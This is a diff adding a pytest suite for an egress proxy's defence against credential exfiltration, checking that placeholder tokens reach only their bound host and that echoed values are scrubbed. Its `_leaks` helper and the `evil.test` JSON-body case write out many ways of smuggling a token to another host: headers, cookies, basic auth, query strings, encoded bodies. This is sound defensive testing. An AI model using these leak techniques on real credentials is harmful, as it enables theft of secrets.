@@ -1,0 +1,402 @@
+"""Threat class 18, credential exfiltration, against the real gate: a placeholder sent where its
+credential does not go, a real value echoed back, a value leaking into evidence or refusals.
+
+The gate inspects ``allowed.test`` (where the credential is bound) and ``other.test`` (allowed, not
+bound). Every refusal is proven at a counting upstream that records what it received: the request
+never arrived. Every use is proven there too: the real value arrived, in the declared place only.
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+import socket
+import ssl
+import time
+from collections.abc import Iterator
+from dataclasses import asdict
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from proxy.core.decision import Reason, Verdict
+from proxy.credentials.loader import load_credentials
+from proxy.credentials.store import CredentialStore
+from proxy.policy.loader import load_policy
+from tests.credentials_harness import GITHUB_TOKEN, EchoUpstream, write_credentials
+from tests.dnsfake import FakeDns
+from tests.harness import WAIT, LocalCA, LoopbackServer, RunningGate, curl, recv_head
+from tests.security import start_gate_with
+
+pytestmark = pytest.mark.timeout(120)
+
+POLICY = """
+version: 1
+allow_internal: [127.0.0.0/8]
+rules:
+  - name: bound-api
+    hosts: [allowed.test]
+    ports: [{bound}, {chunky}, {packed}]
+    inspect: true
+  - name: other-api
+    hosts: [other.test]
+    ports: [{other}]
+    inspect: true
+  - name: plain
+    hosts: [allowed.test]
+    ports: [80]
+  - name: held-body
+    hosts: [evil.test]
+    ports: [{other}]
+    methods: [POST]
+    json_body: {{operation: download}}
+"""
+
+
+class ChunkyEcho(LoopbackServer):
+    """A TLS upstream whose body echoes the Authorization header split across two writes (with a
+    pause, so the gate sees two chunks), or gzip-compressed when ``packed``."""
+
+    def __init__(self, tls: ssl.SSLContext, packed: bool = False) -> None:
+        self.tls = tls
+        self.packed = packed
+        self.requests = 0
+        super().__init__(threaded=True, name="chunky-echo")
+
+    def handle(self, conn: socket.socket) -> None:
+        conn.settimeout(WAIT)
+        with self.tls.wrap_socket(conn, server_side=True) as tls_conn:
+            head = recv_head(tls_conn).decode("latin-1")
+            if not head:
+                return
+            with self._lock:
+                self.requests += 1
+            auth = next(
+                (line.split(":", 1)[1].strip() for line in head.split("\r\n")
+                 if line.lower().startswith("authorization:")),
+                "-",
+            )  # fmt: skip
+            body = f"token is [{auth}] end\n".encode()
+            if self.packed:
+                body = gzip.compress(body)
+                tls_conn.sendall(
+                    b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n"
+                    + f"Content-Length: {len(body)}\r\n\r\n".encode()
+                    + body
+                )
+                return
+            tls_conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
+            middle = body.index(b"[") + 10  # inside the token
+            for part in (body[:middle], body[middle:]):
+                tls_conn.sendall(f"{len(part):x}\r\n".encode() + part + b"\r\n")
+                time.sleep(0.2)
+            tls_conn.sendall(b"0\r\n\r\n")
+
+
+@pytest.fixture(scope="module")
+def dns() -> Iterator[FakeDns]:
+    with FakeDns() as server:
+        for name in ("allowed.test", "other.test", "evil.test"):
+            server.set(name, "A", ["127.0.0.1"])
+        yield server
+
+
+@pytest.fixture(scope="module")
+def bound(test_ca: LocalCA) -> Iterator[EchoUpstream]:
+    server = EchoUpstream("bound", tls=test_ca.server_context())
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def other(test_ca: LocalCA) -> Iterator[EchoUpstream]:
+    server = EchoUpstream("other", tls=test_ca.server_context())
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def chunky(test_ca: LocalCA) -> Iterator[ChunkyEcho]:
+    server = ChunkyEcho(test_ca.server_context())
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def packed(test_ca: LocalCA) -> Iterator[ChunkyEcho]:
+    server = ChunkyEcho(test_ca.server_context(), packed=True)
+    yield server
+    server.stop()
+
+
+class Setup:
+    def __init__(self, gate: RunningGate, store: CredentialStore, ports: dict[str, int]) -> None:
+        self.gate = gate
+        self.store = store
+        self.ports = ports
+        self.placeholder = store.credentials().placeholder("github", None) or ""
+        self.other_sandbox = store.credentials().placeholder("github", "sbx-other") or ""
+        self.ca = Path(gate.config["confdir"]) / "mitmproxy-ca-cert.pem"
+
+    def curl(self, url: str, *args: str) -> Any:
+        return curl(url, f"http://127.0.0.1:{self.gate.port}", *args, cacert=self.ca)
+
+
+@pytest.fixture(scope="module")
+def setup(
+    tmp_path_factory: pytest.TempPathFactory,
+    dns: FakeDns,
+    bound: EchoUpstream,
+    other: EchoUpstream,
+    chunky: ChunkyEcho,
+    packed: ChunkyEcho,
+    test_ca: LocalCA,
+) -> Iterator[Setup]:
+    directory = tmp_path_factory.mktemp("credentials")
+    policy = POLICY.format(
+        bound=bound.port, other=other.port, chunky=chunky.port, packed=packed.port
+    )
+    (directory / "p.yaml").write_text(policy)
+    credentials = write_credentials(
+        directory,
+        [
+            {
+                "name": "github",
+                "source": {"env": "EGRESS_SECURITY_TEST_TOKEN"},
+                "hosts": [f"allowed.test:{p}" for p in (bound.port, chunky.port, packed.port)],
+                "header": "Authorization",
+                "basic": True,
+                "methods": ["GET"],
+                "paths": ["/api/**"],
+            }
+        ],
+    )
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("EGRESS_SECURITY_TEST_TOKEN", GITHUB_TOKEN)
+        store = CredentialStore(load_credentials(credentials, load_policy(directory / "p.yaml")))
+    store.issue(None)
+    store.issue("sbx-other")
+    gate = start_gate_with(
+        directory,
+        policy,
+        dns.nameserver,
+        config={"confdir": str(directory / "state"), "upstream_ca": str(test_ca.ca_path)},
+        gate_kwargs={"credentials": store},
+    )
+    yield Setup(gate, store, {"bound": bound.port, "other": other.port})
+    gate.stop()
+
+
+@pytest.fixture(autouse=True)
+def _reset(bound: EchoUpstream, other: EchoUpstream) -> None:
+    bound.reset()
+    other.reset()
+    bound.bodies.clear()
+    other.bodies.clear()
+
+
+def _last_misuse(setup: Setup) -> Any:
+    decisions = [d for d in setup.gate.memory.decisions if d.reason is Reason.CREDENTIAL_MISUSE]
+    assert decisions, "no credential-misuse decision was recorded"
+    return decisions[-1]
+
+
+def _leaks(ph: str) -> list[tuple[str, list[str]]]:
+    """(how, curl arguments) for the placeholder to other.test: header, URL, body, encoded."""
+    basic_user = base64.b64encode(f"{ph}:x".encode()).decode()
+    return [
+        ("bearer", ["-H", f"Authorization: Bearer {ph}"]),
+        ("custom header", ["-H", f"X-Api-Key: {ph}"]),
+        ("basic password", ["-u", f"me:{ph}"]),
+        ("basic user", ["-H", f"Authorization: Basic {basic_user}"]),
+        ("cookie", ["-H", f"Cookie: session={ph}"]),
+        ("query", ["--url-query", f"t={ph}"]),
+        ("encoded query", ["--url-query", f"t={''.join(f'%{ord(c):02x}' for c in ph)}"]),
+        ("form body", ["--data", f"leak={ph}"]),
+        ("json body", ["--json", json.dumps({"token": ph})]),
+        ("percent body", ["--data", "x=" + "".join(f"%{ord(c):02x}" for c in ph)]),
+        ("http2", ["--http2", "-H", f"Authorization: Bearer {ph}"]),
+    ]
+
+
+@pytest.mark.parametrize("case", range(11))
+def test_the_placeholder_to_another_host_never_arrives(
+    setup: Setup, other: EchoUpstream, case: int
+) -> None:
+    how, args = _leaks(setup.placeholder)[case]
+    result = setup.curl(f"https://other.test:{setup.ports['other']}/x", *args)
+    assert result.status == 403, (how, result)
+    assert result.headers["x-egress-reason"] == "credential-misuse"
+    assert other.requests == [], how  # nothing arrived
+    decision = _last_misuse(setup)
+    assert decision.credential == "github" and decision.host == "other.test"
+    assert f"allowed.test:{setup.ports['bound']}" in (decision.detail or "")
+    assert GITHUB_TOKEN not in result.body + json.dumps(result.headers)
+
+
+def test_the_placeholder_in_the_path_to_another_host_never_arrives(
+    setup: Setup, other: EchoUpstream
+) -> None:
+    result = setup.curl(f"https://other.test:{setup.ports['other']}/{setup.placeholder}")
+    assert result.status == 403 and other.requests == []
+    assert _last_misuse(setup).host == "other.test"
+
+
+def test_a_use_sends_the_real_value_only_in_the_declared_header(
+    setup: Setup, bound: EchoUpstream
+) -> None:
+    url = f"https://allowed.test:{setup.ports['bound']}/api/user"
+    result = setup.curl(url, "-H", f"Authorization: Bearer {setup.placeholder}")
+    assert result.status == 200, result
+    assert [h["authorization"] for _, _, h in bound.requests] == [f"Bearer {GITHUB_TOKEN}"]
+    assert bound.requests[0][2]["accept-encoding"] == "identity"
+    # the echo (header and body) comes back as the placeholder
+    assert result.headers["x-echo"] == f"Bearer {setup.placeholder}"
+    assert f"authorization=Bearer {setup.placeholder}" in result.body
+    assert GITHUB_TOKEN not in result.body + json.dumps(result.headers)
+    used = [d for d in setup.gate.memory.decisions if d.credential == "github" and d.allowed]
+    assert used and used[-1].reason is Reason.ALLOWED_BY_RULE
+
+
+def test_basic_credentials_are_swapped_inside_the_encoding(
+    setup: Setup, bound: EchoUpstream
+) -> None:
+    url = f"https://allowed.test:{setup.ports['bound']}/api/git"
+    result = setup.curl(url, "-u", f"x-access-token:{setup.placeholder}")
+    assert result.status == 200, result
+    sent = bound.requests[0][2]["authorization"]
+    assert base64.b64decode(sent.split()[1]).decode() == f"x-access-token:{GITHUB_TOKEN}"
+    assert GITHUB_TOKEN not in result.body + json.dumps(result.headers)
+
+
+@pytest.mark.parametrize(
+    ("how", "args", "path"),
+    [
+        ("method", ["-X", "POST"], "/api/x"),
+        ("path", [], "/gists"),
+        ("ambiguous path", [], "/api/..%2fgists"),
+        ("query on the bound host", ["--url-query", "q=PH"], "/api/x"),
+        ("body on the bound host", ["--data", "comment=PH", "-X", "GET"], "/api/x"),
+        ("second header on the bound host", ["-H", "X-Note: PH"], "/api/x"),
+    ],
+)
+def test_outside_its_request_rules_or_carriers_the_credential_is_refused(
+    setup: Setup, bound: EchoUpstream, how: str, args: list[str], path: str
+) -> None:
+    ph = setup.placeholder
+    args = [a.replace("PH", ph) for a in args]
+    url = f"https://allowed.test:{setup.ports['bound']}{path}"
+    result = setup.curl(url, "-H", f"Authorization: Bearer {ph}", *args)
+    assert result.status == 403, (how, result)
+    assert result.headers["x-egress-reason"] == "credential-misuse"
+    assert bound.requests == [], how
+    assert GITHUB_TOKEN not in result.body
+
+
+def test_another_sandboxs_placeholder_is_refused_on_the_bound_host(
+    setup: Setup, bound: EchoUpstream
+) -> None:
+    url = f"https://allowed.test:{setup.ports['bound']}/api/user"
+    result = setup.curl(url, "-H", f"Authorization: Bearer {setup.other_sandbox}")
+    assert result.status == 403 and bound.requests == []
+    assert "another sandbox" in (_last_misuse(setup).detail or "")
+
+
+def test_plain_http_never_carries_the_credential(setup: Setup, bound: EchoUpstream) -> None:
+    result = setup.curl(
+        f"http://allowed.test:{setup.ports['bound']}/api/x",
+        "-H",
+        f"Authorization: Bearer {setup.placeholder}",
+    )
+    assert result.status == 403
+    assert "plain HTTP" in (_last_misuse(setup).detail or "")
+    assert bound.accepted == 0
+
+
+def test_an_echo_split_across_chunks_is_still_scrubbed(setup: Setup, chunky: ChunkyEcho) -> None:
+    url = f"https://allowed.test:{chunky.port}/api/echo"
+    result = setup.curl(url, "-H", f"Authorization: Bearer {setup.placeholder}")
+    assert result.status == 200, result
+    assert chunky.requests == 1
+    assert result.body == f"token is [Bearer {setup.placeholder}] end\n"
+
+
+def test_a_compressed_echo_is_cut_off_not_passed_unread(setup: Setup, packed: ChunkyEcho) -> None:
+    url = f"https://allowed.test:{packed.port}/api/echo"
+    result = setup.curl(url, "-H", f"Authorization: Bearer {setup.placeholder}")
+    assert packed.requests == 1
+    assert result.returncode != 0 or result.status != 200
+    assert GITHUB_TOKEN.encode() not in gzip_members(result.body)
+
+
+def gzip_members(text: str) -> bytes:
+    try:
+        return gzip.decompress(text.encode("latin-1", "replace"))
+    except (OSError, EOFError, ValueError):
+        return text.encode("utf-8", "replace")
+
+
+def test_a_failing_credential_step_refuses(
+    setup: Setup, other: EchoUpstream, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import proxy.core.checkpoint as checkpoint
+
+    def broken(*args: object, **kwargs: object) -> None:
+        raise RuntimeError("boom")
+
+    monkeypatch.setattr(checkpoint, "judge", broken)
+    result = setup.curl(
+        f"https://allowed.test:{setup.ports['bound']}/api/x",
+        "-H",
+        f"Authorization: Bearer {setup.placeholder}",
+    )
+    assert result.status == 403 and result.headers["x-egress-reason"] == "credential-misuse"
+
+
+def test_no_decision_ever_holds_the_real_value(setup: Setup) -> None:
+    assert setup.gate.memory.decisions
+    for decision in setup.gate.memory.decisions:
+        assert GITHUB_TOKEN not in json.dumps(asdict(decision), default=str)
+    refused = [d for d in setup.gate.memory.decisions if d.decision is Verdict.DENY]
+    assert refused  # the tests above refused some
+
+
+def test_a_body_held_for_a_rule_is_searched_before_anything_is_sent(
+    setup: Setup, other: EchoUpstream
+) -> None:
+    url = f"https://evil.test:{setup.ports['other']}/batch"
+    clean = setup.curl(url, "--json", json.dumps({"operation": "download"}))
+    assert clean.status == 200 and len(other.requests) == 1  # the held path lets a clean body on
+    leak = {"operation": "download", "token": setup.placeholder}
+    result = setup.curl(url, "--json", json.dumps(leak))
+    assert result.status == 403 and result.headers["x-egress-reason"] == "credential-misuse"
+    assert len(other.requests) == 1 and setup.placeholder.encode() not in b"".join(other.bodies)
+    decision = _last_misuse(setup)
+    assert decision.rule == "held-body" and "not evil.test" in (decision.detail or "")
+
+
+@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
+def test_a_use_over_either_http_version_is_swapped_and_its_echo_scrubbed(
+    setup: Setup, bound: EchoUpstream, http: str
+) -> None:
+    url = f"https://allowed.test:{setup.ports['bound']}/api/v"
+    result = setup.curl(url, http, "-H", f"Authorization: token {setup.placeholder}")
+    assert result.status == 200, result
+    assert bound.requests[-1][2]["authorization"] == f"token {GITHUB_TOKEN}"
+    assert result.headers["x-echo"] == f"token {setup.placeholder}"
+    assert GITHUB_TOKEN not in result.body + json.dumps(result.headers)
+
+
+def test_every_response_from_a_bound_host_is_scrubbed_not_only_swapped_ones(
+    setup: Setup, bound: EchoUpstream
+) -> None:
+    """A service may store a header it was sent and show it later: here the upstream is made to
+    show the real value without any placeholder in the request."""
+    url = f"https://allowed.test:{setup.ports['bound']}/api/stored"
+    result = setup.curl(url, "-H", f"Authorization: stored {GITHUB_TOKEN}")
+    assert result.status == 200, result
+    assert bound.requests[-1][2]["authorization"] == f"stored {GITHUB_TOKEN}"
+    assert result.headers["x-echo"] == f"stored {setup.placeholder}"
+    assert GITHUB_TOKEN not in result.body
